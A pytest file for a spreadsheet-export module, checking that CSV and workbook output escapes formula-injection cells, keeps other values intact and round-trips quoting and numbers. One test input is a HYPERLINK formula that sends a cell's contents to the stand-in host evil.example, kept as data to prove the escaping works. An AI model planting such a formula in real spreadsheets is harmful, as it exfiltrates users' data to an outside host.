"""CSV and workbooks that spreadsheets open safely."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.spreadsheets import Sheet, as_text, csv_answer, xlsx_pieces


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Diya")',
        "+919876543210",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\uff1d1+1",
    ],
)
def test_no_cell_is_a_formula(cell):
    assert as_text(cell) == f"'{cell}"


@pytest.mark.parametrize(
    ("value", "text"),
    [("Diya Patel", "Diya Patel"), ("a=b", "a=b"), ("", ""), (None, ""), (7, "7"), (" x", " x")],
)
def test_everything_else_stays_as_it_is(value, text):
    assert as_text(value) == text


def test_a_file_is_read_back_as_it_was_written():
    rows = [["Diya, Patel", 'the "one"'], ["two\nlines", "नंदिनी"]]
    answer = csv_answer("people", headings=["name", "note"], rows=rows)
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["name", "note"], *rows]
    assert answer["Content-Disposition"] == 'attachment; filename="people.csv"'
    assert answer["Content-Type"] == "text/csv; charset=utf-8"


def test_a_workbook_has_numbers_as_numbers_and_no_formula():
    rows = [["=1+1", 7, Decimal("2.50"), None], ["bell\x07", "x" * 40_000, "@now", True]]

    pieces = xlsx_pieces([Sheet("All", ["What", "=n"], rows), Sheet("None", ["What"], [])])

    book = load_workbook(io.BytesIO(b"".join(pieces)))
    (heading, first, second) = book["All"].iter_rows(values_only=True)
    assert heading[:2] == ("What", "'=n")
    assert first == ("'=1+1", 7, 2.5, None)
    assert (second[0], len(second[1]), second[2]) == ("bell", 32_767, "'@now")
    assert not any(cell.data_type == "f" for row in book["All"].iter_rows() for cell in row)
    assert book["None"].max_row == 1
